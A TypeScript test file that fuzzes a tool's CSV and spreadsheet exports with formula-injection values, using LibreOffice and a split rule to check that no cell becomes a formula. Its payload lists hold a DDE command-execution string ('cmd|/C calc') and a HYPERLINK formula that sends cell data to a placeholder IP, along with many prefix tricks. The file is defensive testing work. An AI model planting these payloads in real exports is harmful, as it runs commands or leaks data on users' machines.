import { execFileSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { explain } from "@/lib/diagnosis/verdict/explain";
import { toReportRow } from "@/lib/insight/answers/report";
import { csvHeader, toCsvRow } from "@/lib/insight/exports/csv";
import { spreadsheetWriter } from "@/lib/insight/exports/spreadsheet";
import { UTC } from "@/lib/time/time-zone";
import { seededRandom } from "../../support/seeded-random";
import { shortOrSoak } from "../../support/soak";
import { makeTemporaryFolder } from "../../support/temporary-folder";
import { failureOf } from "./fake-source";

const ROWS = shortOrSoak(500, 4_000);
const BEGINNINGS = [
  ...["=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠", " =", "  +", "'=", '"=', '""='],
  ...[
    "x;=",
    "x;+",
    "x;-",
    "x;@",
    "x\t=",
    "x\n=",
    "x\r\n=",
    'x";=',
    'x;"=',
    'x;""=',
    "x,=",
    ";=",
    ";;=",
    "\u00a0=",
    "\ufeff=",
    "\u200b=",
  ],
];
const FORMULAS = [
  "1+1",
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://192.0.2.1/?"&A1)',
  "SUM(A1:A9)",
  "1+1;x",
  "2",
];

function hostileRows() {
  const random = seededRandom(53);
  const text = () => `${random.pick(BEGINNINGS)}${random.pick(FORMULAS)}`;
  return Array.from({ length: ROWS }, () => {
    const fields = { operation: text(), statusText: text(), userAgent: text(), callerAddress: text() };
    const { request } = failureOf("1", {
      ...fields,
      requestId: text(),
      clientRequestId: text(),
      objectKey: `/stone/${text()}`,
    });
    return toReportRow(failureOf("1", request), explain(request));
  });
}

/** The export of the page, and that of the command line, each with a plain formula as its last line. */
function exportsOf(rows: ReturnType<typeof hostileRows>): Readonly<Record<string, string>> {
  const writer = spreadsheetWriter({ zone: UTC });
  const page = Buffer.concat([writer.head(), writer.rows(rows)]).toString();
  return { page, command: csvHeader() + rows.map(toCsvRow).join("") };
}

/** Cells as a program parts them that does not know of quotes; a comma is one of several, or none of them. */
const formulasByRule = (csv: string, separators: RegExp): readonly string[] =>
  csv.split(separators).filter((cell) => /^[=+\-@＝＋－＠]/.test(cell));

/** Cells that LibreOffice made formulas of. */
function formulasInLibreOffice(csv: string, separators: string): readonly string[] {
  const folder = makeTemporaryFolder();
  const [from, home] = [join(folder.path, "rows.csv"), join(folder.path, "home")];
  writeFileSync(from, csv);
  const options = [
    "--headless",
    "--norestore",
    `-env:UserInstallation=file://${home}`,
    "--convert-to",
    "fods",
  ];
  execFileSync(
    "soffice",
    [...options, `--infilter=CSV:${separators},34,76,1`, "--outdir", folder.path, from],
    { stdio: "ignore" },
  );
  const made = readFileSync(join(folder.path, "rows.fods"), "utf8");
  folder.remove();
  return [...made.matchAll(/table:formula="([^"]*)"/g)].map(([, formula = ""]) => formula);
}

const CONTROL = "=1+1\r\n";
/** As LibreOffice parts fields unless told otherwise, and as where a comma stands in numbers; by codes, and by rule. */
const PARTED = { usual: ["44/59/9", /[;\t\r\n]/], semicolon: ["59", /[;\r\n]/] } as const;

test.each(Object.entries(PARTED))("no field is a formula where they are parted as %s", (_, [codes, rule]) => {
  for (const [name, csv] of Object.entries(exportsOf(hostileRows()))) {
    const formulas = shortOrSoak(
      () => formulasByRule(csv + CONTROL, rule),
      () => formulasInLibreOffice(csv + CONTROL, codes),
    )();
    expect(formulas, name).toEqual([expect.stringMatching(/=1\+1$/)]);
  }
});
